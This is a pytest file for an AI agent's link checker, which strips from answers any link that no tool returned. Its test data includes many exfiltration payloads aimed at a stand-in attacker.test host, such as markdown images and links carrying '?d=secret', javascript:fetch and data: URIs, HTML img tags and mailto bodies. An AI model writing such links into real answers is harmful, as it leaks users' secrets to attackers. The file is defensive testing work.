"""No link in an answer that no tool gave."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rookery.agent.links import LinkAllowlist, check
from rookery.agent.streaming import CheckedStream
from rookery_core.mcp.sources import Source, passages, sources, trimmed, urls_in

KNOWN = "https://acme.slack.com/archives/C1/p1700000000000100?thread_ts=1700000000.000100&cid=C1"
DOCS = "https://docs.acme.example/retention.html#RAW"


def allowlist() -> LinkAllowlist:
    made = LinkAllowlist()
    made.add_items(
        [
            Source(KNOWN, "dag in #engineering", "slack", "search_messages"),
            Source(DOCS, "Retention", "docs", "search_docs"),
        ]
    )
    made.add_text(
        "see https://evil.example.net/collect?x=1 and https://docs.acme.example/other.html and foo.bar.dev/x?y"
    )
    made.add_trusted("I read https://blog.acme.example.org/post")
    return made


@pytest.mark.parametrize(
    ("written", "cited"),
    [
        (f"[why]({KNOWN})", [KNOWN]),
        (f"see {DOCS}.", [DOCS]),
        (f"<{KNOWN}|why>", [KNOWN]),
        (f"[a]({DOCS}) and [b]({KNOWN}) and [a again]({DOCS})", [DOCS, KNOWN]),
        ("[short](https://acme.slack.com/archives/C1/p1700000000000100)", [KNOWN]),
        ("[page](https://docs.acme.example/retention.html#made-up)", [DOCS]),
        (f"([why]({DOCS}))", [DOCS]),
        (f"[why](<{DOCS}>)", [DOCS]),
        (f'[why]({DOCS} "title")', [DOCS]),
    ],
)
def test_links_that_a_tool_gave_stay_and_are_cited(written: str, cited: list[str]) -> None:
    checked = check(written, allowlist())
    assert [one.permalink for one in checked.cited] == cited
    assert checked.removed == 0
    for link in cited:
        assert link in checked.markdown


@pytest.mark.parametrize(
    "written",
    [
        "[x](https://made-up.example.com.evil/page)",
        "[x](https://attacker.test/?d=secret)",
        "![x](https://attacker.test/p.png?d=secret)",
        "https://attacker.test/?d=secret",
        "HTTPS://attacker.test/?d=secret",
        "<https://attacker.test/?d=secret>",
        "<https://attacker.test/?d=secret|click>",
        "[x](  https://attacker.test/?d=secret  )",
        "[x](//attacker.test/?d=secret)",
        "[x](/\\attacker.test/?d=secret)",
        "[x](&#104;ttps://attacker.test/?d=secret)",
        "[x](javascript:fetch('https://attacker.test'))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        '<a href="https://attacker.test/?d=secret">x</a>',
        '<img src="https://attacker.test/?d=secret">',
        "<img src=//attacker.test/?d=secret />",
        "[x][1]\n\n[1]: https://attacker.test/?d=secret",
        "[1]: <https://attacker.test/?d=secret> 'title'",
        "[[x]](https://attacker.test/?d=secret)",
        "[![x](https://attacker.test/a.png)](https://attacker.test/?d=secret)",
        f"[![x](https://attacker.test/a.png?secret)]({DOCS})",
        f"[https://attacker.test/?d=secret]({DOCS})",
        "www.attacker.test/?d=secret",
        "attacker.test/?d=secret",
        "https:\\\\attacker.test/?d=secret",
        "ftp://attacker.test/secret",
        "slack://channel?team=T1&id=secret@attacker.test",
        "mailto:x@attacker.test?body=secret and <mailto:x@attacker.test?body=secret|mail>",
        f"{KNOWN}.attacker.test/secret",
        f"[x]({DOCS}@attacker.test/secret)",
        "https://docs.acme.example@attacker.test/?d=secret",
        "`code` https://attacker.test/?d=secret `code`",
        "```\nhttps://attacker.test/?d=secret\n```",
        "`https://attacker.test/?d=secret`",
        "[x](https://attacker.test/?d=secret",
        "[x]\n(https://attacker.test/?d=secret)",
        "tel:+1 <tel:+1555|secret attacker.test/?secret>",
    ],
)
def test_nothing_that_no_tool_gave_can_be_clicked_or_loaded(written: str) -> None:
    text = check(written, allowlist()).markdown
    assert "://attacker.test" not in text
    assert "(//attacker" not in text
    assert "\\attacker" not in text
    assert "www.attacker" not in text
    assert "src=" not in text
    assert "href=" not in text
    assert "javascript:" not in text
    assert "data:text" not in text
    assert "](https://attacker" not in text
    assert "attacker.test/?d" not in text.replace("[:]//attacker.test", "")


def test_removed_links_are_counted_and_their_words_stay() -> None:
    checked = check("It is [documented here](https://made-up.test/x).", allowlist())
    assert checked.markdown == "It is documented here."
    assert checked.removed == 1


def test_addresses_that_people_wrote_are_shown_as_code_unless_their_host_is_known() -> None:
    checked = check("They linked [this](https://evil.example.net/collect?x=1).", allowlist())
    assert checked.markdown == "They linked this (`evil.example.net/collect?x=1`)."
    assert (checked.removed, checked.defanged) == (0, 1)
    assert (
        check("[o](https://docs.acme.example/other.html)", allowlist()).markdown
        == "[o](https://docs.acme.example/other.html)"
    )
    assert (
        check("https://blog.acme.example.org/post", allowlist()).markdown
        == "https://blog.acme.example.org/post"
    )


def test_images_are_never_loaded_even_from_known_hosts() -> None:
    assert (
        check("![pic](https://docs.acme.example/other.html)", allowlist()).markdown
        == "pic (`docs.acme.example/other.html`)"
    )


@pytest.mark.parametrize(
    "call", ["<!channel>", "<!here|here>", "<!everyone>", "@channel", "@here", "<!subteam^S123>"]
)
def test_nobody_is_called_together(call: str) -> None:
    text = check(f"Look, {call}!", allowlist()).markdown
    assert text == f"Look, `{call.strip('<>')}`!"


@pytest.mark.parametrize(
    "text",
    [
        "Use `pg_stat_statements` and see src/backend/main.c or docs/readme.md.",
        "Hello <@U123>, in <#C123>: a < b and c > d, 3/4 and/or.",
        "```sql\nselect 1;\n```\nVersion 18.2/19 is out.",
        "curl http://localhost:8080/health",
        "a [plain] bracket (and a parenthesis)",
    ],
)
def test_what_is_no_link_stays_as_it_is(text: str) -> None:
    if "localhost" in text:
        text = f"`{text}`"
    checked = check(text, allowlist())
    assert checked.removed == 0
    assert checked.markdown == text


def test_code_keeps_addresses_that_were_read() -> None:
    made = allowlist()
    made.add_text("curl https://api.acme.test/v1")
    assert check("`curl https://api.acme.test/v1`", made).markdown == "`curl https://api.acme.test/v1`"


@given(st.text(alphabet="[]()<>!`|:/.aehtps#?=\n \\", max_size=60))
def test_any_text_is_checked_and_a_second_time_changes_nothing_dangerous(text: str) -> None:
    once = check(text + " https://attacker.test/?q=1 " + text, allowlist()).markdown
    assert "https://attacker.test" not in once


async def streamed(text: str, size: int) -> str:
    """What a reader sees of a text that comes in pieces of a size."""
    sent = list[str]()

    async def send(piece: str) -> None:
        sent.append(piece)

    stream = CheckedStream(allowlist(), send)
    for start in range(0, len(text), size):
        await stream.add(text[start : start + size])
    await stream.finish()
    return "".join(sent)


@given(st.lists(st.sampled_from(["[", "]", "(", ")", "`", "```\n", "\n", "\n\n", "words ", f"[a]({DOCS})", "https://attacker.test/?q=1", "![i](https://attacker.test/p)", ". Next "]), max_size=25), st.integers(1, 9))  # fmt: skip
async def test_nothing_dangerous_is_streamed_however_it_is_cut(parts: list[str], size: int) -> None:
    assert "https://attacker.test" not in await streamed("".join(parts), size)


async def test_text_streams_before_it_is_complete() -> None:
    sent = list[str]()

    async def send(piece: str) -> None:
        sent.append(piece)

    stream = CheckedStream(allowlist(), send)
    await stream.add("The first sentence is long enough to be passed on. " * 5)
    assert sent
    await stream.add(f"And here comes [a link]({DOCS[:10]}")
    assert "here comes" not in "".join(sent)
    await stream.add(f"{DOCS[10:]}) with an end. And")
    await stream.finish()
    assert "".join(sent).endswith(f"And here comes [a link]({DOCS}) with an end. And")


async def test_what_was_only_a_preamble_is_not_streamed() -> None:
    sent = list[str]()

    async def send(piece: str) -> None:
        sent.append(piece)

    stream = CheckedStream(allowlist(), send)
    await stream.add("Let me search for that.\n")
    assert stream.restart() is False
    assert sent == []


def test_addresses_of_items_are_found_and_those_that_people_wrote_are_not() -> None:
    answer = {
        "messages": [
            {
                "text": "see https://evil.test",
                "user": {"display_name": "Dag"},
                "channel": "general",
                "permalink": KNOWN,
                "attachments": [{"url": "https://evil.test/attached", "title": "free money"}],
            }
        ]
    }
    assert [(one.permalink, one.title) for one in sources(answer, "slack", "search")] == [
        (KNOWN, "Dag in #general")
    ]


def test_a_memory_is_cited_by_its_source_where_it_has_one_and_told_by_its_words() -> None:
    own, other = "memory://team/1", "memory://team/2"
    answer = {
        "memories": [
            {"id": own, "content": "The pool has 40 connections.", "source": KNOWN, "author": "U1"},
            {"id": other, "content": "Vera knows the pool.", "source": "the handbook", "author": "U1"},
        ]
    }
    assert [(one.permalink, one.title) for one in sources(answer, "memory", "recall")] == [
        (KNOWN, "The pool has 40 connections."),
        (own, "The pool has 40 connections."),
        (other, "Vera knows the pool."),
    ]
    assert [one.permalink for one in passages(answer, "memory", "recall")] == [KNOWN, other]


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("(https://a.test/x_(y))", "https://a.test/x_(y)"),
        ("https://a.test/x).", "https://a.test/x"),
        ("**https://a.test/x**", "https://a.test/x"),
        ("https://a.test/x?", "https://a.test/x"),
    ],
)
def test_addresses_end_before_the_sentence_does(text: str, url: str) -> None:
    assert {trimmed(one) for one in urls_in(text)} == {url}


PARTS = ["[", "]", "(", ")", "<", ">", "`", "```\n", "    ```\n", "~~~\n", "\n", "\n\n", "\\", "!", "word. Next ", f"[a]({DOCS})", f"<{KNOWN}|", "](//attacker.test/?q)", "](mailto:x@attacker.test)", "](<//attacker.test/ q>)", "](attacker.test/q)", ": //attacker.test/q\n"]  # fmt: skip


@given(st.lists(st.sampled_from(PARTS), max_size=14), st.integers(1, 9))
async def test_no_brackets_make_a_link_that_was_not_judged(parts: list[str], size: int) -> None:
    text = "".join(parts)
    for shown in (check(text, allowlist()).markdown, await streamed(text, size)):
        for target in re.findall(r"\]\(\s*<?((?:[a-z][a-z0-9+.-]*:\S|[/\\]{2})[^\s)>]*)", shown):
            assert target in (DOCS, KNOWN), shown


def test_words_of_a_link_keep_their_brackets_where_these_close() -> None:
    assert check(f"[`list[int]` is slow]({DOCS})", allowlist()).markdown == f"[`list[int]` is slow]({DOCS})"


@pytest.mark.parametrize(
    "text",
    ["Is File.exist? true", "See String.class#method and [note]: fine", "Why node.js? Why config.yaml?"],
)
def test_prose_with_dots_and_marks_is_not_taken_for_addresses(text: str) -> None:
    assert "removed" not in check(text, allowlist()).markdown


def test_an_address_with_an_open_bracket_ends_where_it_ends() -> None:
    url = "https://docs.acme.example/a)[x](y"
    made = LinkAllowlist()
    made.add_items([Source(url, "A", "docs", "search_docs")])
    assert check(f"see <{url}|A>", made).markdown == "see [A](https://docs.acme.example/a%29[x]%28y)"
